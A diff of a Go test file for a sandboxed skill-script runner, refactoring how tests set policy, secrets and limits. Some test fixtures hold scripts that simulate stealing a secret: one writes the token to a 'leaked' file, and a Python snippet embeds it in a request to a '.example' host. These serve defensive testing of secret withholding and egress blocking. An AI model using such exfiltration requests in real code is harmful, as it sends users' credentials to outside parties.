@@ -37,22 +37,22 @@ func granting(t *testing.T, entry policy.Entry, body string) *bench {
 	if err != nil {
 		t.Fatal(err)
 	}
-	b.cfg.Policy = policy.New(policy.Config{Role: policy.DirectCommand, Allowlist: allowed, Release: policy.ReleaseObserved,
-		Tools: []string{"load_skill", "run_skill_script", "resources/read"}})
+	b.setPolicy(policy.New(policy.Config{Role: policy.DirectCommand, Allowlist: allowed, Release: policy.ReleaseObserved,
+		Tools: []string{"load_skill", "run_skill_script", "resources/read"}}))
 	b.cfg.Runner = func(context.Context) (sandbox.Runner, error) { return native.New(nil), nil }
 	b.cfg.Interpreter = func(_ context.Context, name string) (*sandbox.Interpreter, error) {
 		path, err := filepath.EvalSymlinks("/usr/bin/" + name)
 		return &sandbox.Interpreter{Name: name, Path: path}, err
 	}
 	b.cfg.Env = func(name string) (string, bool) { return "value of " + name, name != "MISSING" }
-	b.cfg.Secret = func(name string) (string, error) {
+	b.rules.Load().Secret = func(name string) (string, error) {
 		if name == "MISSING" {
 			return "", errors.New("open /host/path: no such file")
 		}
 		return theSecret, nil
 	}
-	clear(b.trees)
-	clear(b.pins)
+	clear(b.rules.Load().trees)
+	clear(b.rules.Load().pins)
 	if err := b.Start(t.Context(), nil); err != nil {
 		t.Fatal(err)
 	}
@@ -155,7 +155,7 @@ func TestMissingVariables(t *testing.T) {
 
 func TestShortSecret(t *testing.T) {
 	b := granting(t, policy.Entry{Secrets: []string{"TOKEN"}}, "#!/bin/sh\n")
-	b.cfg.Secret = func(string) (string, error) { return "abc", nil }
+	b.rules.Load().Secret = func(string) (string, error) { return "abc", nil }
 	if err := b.CheckEntries(t.Context()); err == nil || !errors.Is(err, redact.ErrSize) || strings.Contains(err.Error(), "abc") {
 		t.Errorf("CheckEntries = %v, want %v", err, redact.ErrSize)
 	}
@@ -173,7 +173,7 @@ func TestHostsOfEntries(t *testing.T) {
 			t.Errorf("NewAllowlist(%q) = %v", host, err)
 		}
 		b := newBench(t, benchOptions{})
-		b.cfg.Policy = policy.New(policy.Config{Allowlist: allowed})
+		b.setPolicy(policy.New(policy.Config{Allowlist: allowed}))
 		_, bad := egress.ParseTargets(entry.Network)
 		if err := b.CheckEntries(t.Context()); (err != nil) != (bad != nil) {
 			t.Errorf("CheckEntries(%q) = %v", host, err)
@@ -192,7 +192,7 @@ func TestEntryNarrows(t *testing.T) {
 			}
 		}
 	}
-	s := &Session{Sessions: &Sessions{}}
+	s := &Session{Sessions: New(Config{Policy: policy.New(policy.Config{})})}
 	for _, tt := range []struct{ server, entry, call, want time.Duration }{
 		{0, 0, 0, time.Minute},
 		{0, 0, 5 * time.Minute, 5 * time.Minute},
@@ -205,18 +205,18 @@ func TestEntryNarrows(t *testing.T) {
 		{0, 2 * time.Minute, 3 * time.Minute, 2 * time.Minute},
 		{0, 2 * time.Minute, time.Second, time.Second},
 	} {
-		s.cfg.Limits.Timeout = tt.server
-		if got := s.limits(s.cfg.Limits, tt.call, policy.Entry{Timeout: tt.entry}).Timeout; got != tt.want {
+		s.rules.Load().Limits.Timeout = tt.server
+		if got := s.limits(s.rules.Load().Limits, tt.call, policy.Entry{Timeout: tt.entry}).Timeout; got != tt.want {
 			t.Errorf("timeout(server %v, entry %v, call %v) = %v, want %v", tt.server, tt.entry, tt.call, got, tt.want)
 		}
 		if usual, most := s.Timeouts(); tt.entry+tt.call == 0 && usual != tt.want || most < tt.want {
 			t.Errorf("Timeouts with %v = %v, %v", tt.server, usual, most)
 		}
 	}
-	if got := s.limits(s.cfg.Limits, 0, policy.Entry{Memory: 1 << 40}).Memory; got != sandbox.DefaultLimits().Memory {
+	if got := s.limits(s.rules.Load().Limits, 0, policy.Entry{Memory: 1 << 40}).Memory; got != sandbox.DefaultLimits().Memory {
 		t.Errorf("an entry's memory passes the server's: %d", got)
 	}
-	if got := s.limits(s.cfg.Limits, 0, policy.Entry{Memory: 64 << 20}).Memory; got != 64<<20 {
+	if got := s.limits(s.rules.Load().Limits, 0, policy.Entry{Memory: 64 << 20}).Memory; got != 64<<20 {
 		t.Errorf("an entry's memory does not count: %d", got)
 	}
 }
@@ -264,7 +264,7 @@ func TestStagedSecretIsWithheld(t *testing.T) {
 	}
 	defer handle.Close()
 	b := granting(t, policy.Entry{Secrets: []string{"TOKEN"}}, "#!/bin/sh\necho \"key: $TOKEN\" >leaked\necho fine >written\n")
-	b.cfg.Secret = func(string) (string, error) { return "quite-secret-value", nil }
+	b.rules.Load().Secret = func(string) (string, error) { return "quite-secret-value", nil }
 	b.cfg.Workspace = sandbox.Workspace{Mode: sandbox.WorkspaceStaged, Dir: handle}
 	result, err := b.run("demo", "scripts/ok.sh")
 	if err != nil {
@@ -309,7 +309,7 @@ for url in sys.argv[1], "http://" + os.environ["TOKEN"].lower() + ".example/", "
         print(e.code)
 `
 	b := granting(t, policy.Entry{Network: []string{addr}, Secrets: []string{"TOKEN"}}, "#!/usr/bin/python3\n"+body)
-	b.cfg.Secret = func(string) (string, error) { return "quite-secret-name", nil }
+	b.rules.Load().Secret = func(string) (string, error) { return "quite-secret-name", nil }
 	ses, call := b.call("run_skill_script")
 	result, err := ses.RunScript(t.Context(), RunRequest{Call: call, Skill: "demo", Path: "scripts/ok.sh", Args: []string{"http://" + addr}})
 	if err != nil {
